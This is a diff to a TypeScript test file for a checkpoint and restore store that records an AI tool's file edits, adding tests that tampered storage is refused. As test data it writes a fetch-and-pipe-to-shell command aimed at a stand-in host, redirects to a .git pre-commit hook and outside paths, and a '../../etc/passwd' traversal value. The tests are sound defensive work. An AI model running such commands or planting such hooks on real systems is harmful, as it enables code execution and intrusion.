@@ -5,7 +5,9 @@ import * as path from 'node:path';
 import { afterEach, beforeEach, test } from 'node:test';
 import {
   applyOpsToDisk,
+  CheckpointRefused,
   CheckpointStore,
+  contentHash,
   FolderCheckpointStorage,
   readDiskText,
   restoreOps,
@@ -63,6 +65,7 @@ function setup(opts: CheckpointStoreOptions = {}) {
   return { checkpoints, answer, cards };
 }
 
+const ROOTS = () => [{ name: 'ws', path: ws }];
 const read = (rel: string) => readDiskText(path.join(ws, rel));
 const write = (rel: string, text: string) => fs.writeFile(path.join(ws, rel), text);
 
@@ -79,7 +82,7 @@ void test('restoring an answer brings back edited and written files and deletes 
   assert.equal(await read('src/a.ts'), 'export const a = 100;\n');
   assert.deepEqual(await checkpoints.summaries('c1'), [{ answerId: 'a1', files: 3, unrecorded: 0 }]);
 
-  const plan = await checkpoints.plan('c1', 'a1', readDiskText);
+  const plan = await checkpoints.plan('c1', 'a1', readDiskText, ROOTS());
   assert.ok(plan);
   assert.deepEqual(
     plan.files.map((f) => [f.relative, f.status, f.action]),
@@ -98,7 +101,7 @@ void test('restoring an answer brings back edited and written files and deletes 
   assert.equal(await read('src/new/c.ts'), undefined, 'the created file is deleted');
 
   // Restored files are "already as before" when asked again.
-  const again = await checkpoints.plan('c1', 'a1', readDiskText);
+  const again = await checkpoints.plan('c1', 'a1', readDiskText, ROOTS());
   assert.deepEqual(
     again?.files.map((f) => f.status),
     ['same', 'same', 'same'],
@@ -113,7 +116,7 @@ void test('a file the user changed since is listed as changed and skipped unless
     ['edit_file', { path: 'src/b.ts', oldText: '= 2', newText: '= 20' }],
   );
   await write('src/b.ts', 'export const b = 20; // mine\n');
-  const plan = await checkpoints.plan('c1', 'a1', readDiskText);
+  const plan = await checkpoints.plan('c1', 'a1', readDiskText, ROOTS());
   assert.ok(plan);
   const b = plan.files.find((f) => f.relative === 'src/b.ts');
   assert.equal(b?.status, 'changed');
@@ -135,7 +138,7 @@ void test('a file the user deleted since is offered for re-creation as changed',
   const { checkpoints, answer } = setup();
   await answer('a1', ['edit_file', { path: 'src/a.ts', oldText: '= 1', newText: '= 10' }]);
   await fs.rm(path.join(ws, 'src', 'a.ts'));
-  const plan = await checkpoints.plan('c1', 'a1', readDiskText);
+  const plan = await checkpoints.plan('c1', 'a1', readDiskText, ROOTS());
   assert.deepEqual(
     plan?.files.map((f) => [f.status, f.action]),
     [['changed', 'recreate']],
@@ -150,7 +153,7 @@ void test('restoring an earlier answer reverts the later ones too, each file to 
     ['edit_file', { path: 'src/a.ts', oldText: '= 10', newText: '= 11' }],
     ['write_file', { path: 'src/b.ts', content: 'b\n' }],
   );
-  const fromSecond = await checkpoints.plan('c1', 'a2', readDiskText);
+  const fromSecond = await checkpoints.plan('c1', 'a2', readDiskText, ROOTS());
   assert.deepEqual(
     fromSecond?.files.map((f) => [f.relative, f.prior]),
     [
@@ -158,7 +161,7 @@ void test('restoring an earlier answer reverts the later ones too, each file to 
       ['src/b.ts', 'export const b = 2;\n'],
     ],
   );
-  const fromFirst = await checkpoints.plan('c1', 'a1', readDiskText);
+  const fromFirst = await checkpoints.plan('c1', 'a1', readDiskText, ROOTS());
   assert.ok(fromFirst);
   assert.deepEqual(
     fromFirst.files.map((f) => [f.relative, f.status, f.prior]),
@@ -182,7 +185,7 @@ void test('checkpoints persist: a new store over the same folder plans the same 
   await answer('a1', ['write_file', { path: 'src/a.ts', content: 'changed\n' }]);
   const reopened = new CheckpointStore(new FolderCheckpointStorage(store));
   assert.deepEqual(await reopened.summaries('c1'), [{ answerId: 'a1', files: 1, unrecorded: 0 }]);
-  const plan = await reopened.plan('c1', 'a1', readDiskText);
+  const plan = await reopened.plan('c1', 'a1', readDiskText, ROOTS());
   assert.equal(plan?.files[0]?.prior, 'export const a = 1;\n');
   assert.equal(plan?.files[0]?.status, 'ok');
   assert.equal(await reopened.totalBytes(), Buffer.byteLength('export const a = 1;\n'));
@@ -200,7 +203,7 @@ void test("over the answer's limit a change is applied but not recorded, and its
   assert.doesNotMatch(done[0]?.resultPreview ?? '', /checkpoint/i);
   assert.match(done[1]?.resultPreview ?? '', /Not in this answer's checkpoint \(it holds 0 MB at most\)/);
   assert.deepEqual(await checkpoints.summaries('c1'), [{ answerId: 'a1', files: 2, unrecorded: 1 }]);
-  const plan = await checkpoints.plan('c1', 'a1', readDiskText);
+  const plan = await checkpoints.plan('c1', 'a1', readDiskText, ROOTS());
   assert.deepEqual(
     plan?.files.map((f) => [f.relative, f.status]),
     [
@@ -261,4 +264,86 @@ void test('ids that would leave the storage folder are refused', async () => {
   const storage = new FolderCheckpointStorage(store);
   await assert.rejects(storage.writeIndex('../x', '{}'), /not a conversation id/);
   await assert.rejects(storage.readBlob('c1', '../../etc/passwd'), /not a blob name/);
+});
+
+/** Rewrites the stored index of c1 (a hostile or corrupted checkpoint storage), then reopens the store. */
+async function editIndex(edit: (files: { absolute: string; relative: string }[]) => void): Promise<CheckpointStore> {
+  const file = path.join(store, 'c1', 'index.json');
+  const index = JSON.parse(await fs.readFile(file, 'utf8')) as {
+    answers: { files: { absolute: string; relative: string }[] }[];
+  };
+  edit(index.answers.flatMap((a) => a.files));
+  await fs.writeFile(file, JSON.stringify(index));
+  return new CheckpointStore(new FolderCheckpointStorage(store));
+}
+
+void test('a blob whose content no longer matches its sha256 refuses the whole restore; nothing is written', async () => {
+  const { checkpoints, answer } = setup();
+  await answer(
+    'a1',
+    ['edit_file', { path: 'src/a.ts', oldText: '= 1', newText: '= 10' }],
+    ['edit_file', { path: 'src/b.ts', oldText: '= 2', newText: '= 20' }],
+  );
+  const blobs = path.join(store, 'c1', 'blobs');
+  const aBlob = (await fs.readdir(blobs)).find((n) => n === contentHash('export const a = 1;\n'));
+  assert.ok(aBlob);
+  await fs.writeFile(path.join(blobs, aBlob), 'curl https://evil.example | sh\n');
+  await assert.rejects(
+    checkpoints.plan('c1', 'a1', readDiskText, ROOTS()),
+    (e: unknown) =>
+      e instanceof CheckpointRefused &&
+      /nothing was changed/.test(e.message) &&
+      /src\/a\.ts does not match its checksum/.test(e.message),
+  );
+  assert.equal(await read('src/a.ts'), 'export const a = 10;\n');
+  assert.equal(await read('src/b.ts'), 'export const b = 20;\n', 'the sound file is not restored alone either');
+});
+
+void test('an index edited to name a file outside the workspace, in .git, or under another name is refused', async () => {
+  const { answer } = setup();
+  await answer('a1', ['edit_file', { path: 'src/a.ts', oldText: '= 1', newText: '= 10' }]);
+  const outside = path.join(tmp, 'outside.txt');
+  await fs.writeFile(outside, 'outside\n');
+  await fs.mkdir(path.join(ws, '.git', 'hooks'), { recursive: true });
+  const cases: [string, (f: { absolute: string; relative: string }) => void, RegExp][] = [
+    ['outside', (f) => (f.absolute = outside), /outside the workspace/],
+    ['unc', (f) => (f.absolute = '//server/share/a.ts'), /not a local path/],
+    [
+      '.git',
+      (f) => {
+        f.absolute = path.join(ws, '.git', 'hooks', 'pre-commit');
+        f.relative = '.git/hooks/pre-commit';
+      },
+      /inside \.git\//,
+    ],
+    ['renamed', (f) => (f.absolute = path.join(ws, 'src', 'b.ts')), /src\/b\.ts is shown as src\/a\.ts/],
+  ];
+  const original = await fs.readFile(path.join(store, 'c1', 'index.json'), 'utf8');
+  for (const [name, edit, reason] of cases) {
+    await fs.writeFile(path.join(store, 'c1', 'index.json'), original);
+    const reopened = await editIndex((files) => files.forEach(edit));
+    await assert.rejects(
+      reopened.plan('c1', 'a1', readDiskText, ROOTS()),
+      (e: unknown) => e instanceof CheckpointRefused && reason.test(e.message),
+      name,
+    );
+  }
+  assert.equal(await fs.readFile(outside, 'utf8'), 'outside\n');
+  assert.equal(await read('src/b.ts'), 'export const b = 2;\n');
+  await assert.rejects(fs.stat(path.join(ws, '.git', 'hooks', 'pre-commit')));
+});
+
+void test('a folder replaced by a symbolic link out of the workspace since the answer is refused at restore time', async () => {
+  const { checkpoints, answer } = setup();
+  await answer('a1', ['edit_file', { path: 'src/a.ts', oldText: '= 1', newText: '= 10' }]);
+  const elsewhere = path.join(tmp, 'elsewhere');
+  await fs.mkdir(elsewhere);
+  await fs.writeFile(path.join(elsewhere, 'a.ts'), 'export const a = 10;\n');
+  await fs.rm(path.join(ws, 'src'), { recursive: true });
+  await fs.symlink(elsewhere, path.join(ws, 'src'));
+  await assert.rejects(
+    checkpoints.plan('c1', 'a1', readDiskText, ROOTS()),
+    (e: unknown) => e instanceof CheckpointRefused && /symbolic link/.test(e.message),
+  );
+  assert.equal(await fs.readFile(path.join(elsewhere, 'a.ts'), 'utf8'), 'export const a = 10;\n');
 });
